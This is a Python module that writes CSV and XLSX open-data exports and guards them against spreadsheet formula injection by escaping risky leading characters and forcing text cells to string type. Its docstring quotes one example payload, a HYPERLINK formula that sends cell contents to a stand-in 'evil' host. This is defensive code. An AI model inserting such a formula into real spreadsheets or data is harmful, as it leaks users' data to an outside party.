"""The open-data spreadsheet files, CSV and XLSX, written once for both ends: the platform's
`/open/stats?format=csv|xlsx` and the terminal's `counter-app export`.

Why here: both files are opened by people in a spreadsheet program, which runs a cell that
starts with `=`, `+`, `-` or `@` (and, after a tab or carriage return, what follows) as a
formula: `=HYPERLINK("http://evil/?"&A1, "click")` in a hall or item name would become a live
link or worse (CSV/formula injection, OWASP). The rule, one implementation for both sides:
- a column's *type* decides, never its content: numbers (int, float) are written as numbers
  (a negative count is a number, not a formula, and a spreadsheet reads `-3` as -3);
- text that starts with one of those characters gets a leading `'` (OWASP's advice), in CSV
  and XLSX alike, so both files show the same value;
- XLSX text cells are always written as strings (openpyxl `data_type` "s"), so no text can
  become a formula cell even if the rule above missed a character.
JSON and XML carry values unchanged: they are read by programs, not spreadsheets.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping
from typing import Any

from sync.opendata_columns import COLUMNS, HEADINGS
from sync.ratings import CODE_NOTE

#: The file formats of the open data the terminal exports (`counter-app export`).
FORMATS = ("csv", "json", "xml", "xlsx")
#: What a spreadsheet treats as the start of a formula (OWASP CSV injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
Row = Mapping[str, Any]


def safe_text(value: str) -> str:
    """`value`, with a leading `'` when a spreadsheet would read it as a formula."""
    return "'" + value if value.startswith(FORMULA_START) else value


def cell(value: Any) -> str | int | float | None:
    """One cell's value: numbers as they are, None as empty, anything else as safe text."""
    if value is None or (isinstance(value, int | float) and not isinstance(value, bool)):
        return value
    return safe_text(str(value))


def to_csv(rows: Iterable[Row]) -> bytes:
    """UTF-8 without a byte-order mark, CRLF, the header first, empty for None."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(COLUMNS)
    for r in rows:
        writer.writerow(["" if (v := cell(r[c])) is None else v for c in COLUMNS])
    return out.getvalue().encode("utf-8")


def to_xlsx(rows: Iterable[Row]) -> bytes:
    """One sheet "stats": a header row, then numbers as numeric cells and text as string
    cells (never formulas); and a sheet "columns" naming each column in zh and en and
    saying which satisfaction code is which (`sync.ratings.CODE_NOTE`)."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    book = Workbook(write_only=True)
    sheet = book.create_sheet("stats")
    sheet.append(list(COLUMNS))
    for r in rows:
        cells = []
        for c in COLUMNS:
            value = cell(r[c])
            one = WriteOnlyCell(sheet, value=value)
            if isinstance(value, str):
                one.data_type = "s"  # set after the value: openpyxl guesses "f" for "=..."
            cells.append(one)
        sheet.append(cells)
    notes = book.create_sheet("columns")
    notes.append(["column", "zh", "en"])
    for column in COLUMNS:
        notes.append([column, HEADINGS[column].zh, HEADINGS[column].en])
    notes.append(["codes", CODE_NOTE.zh, CODE_NOTE.en])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
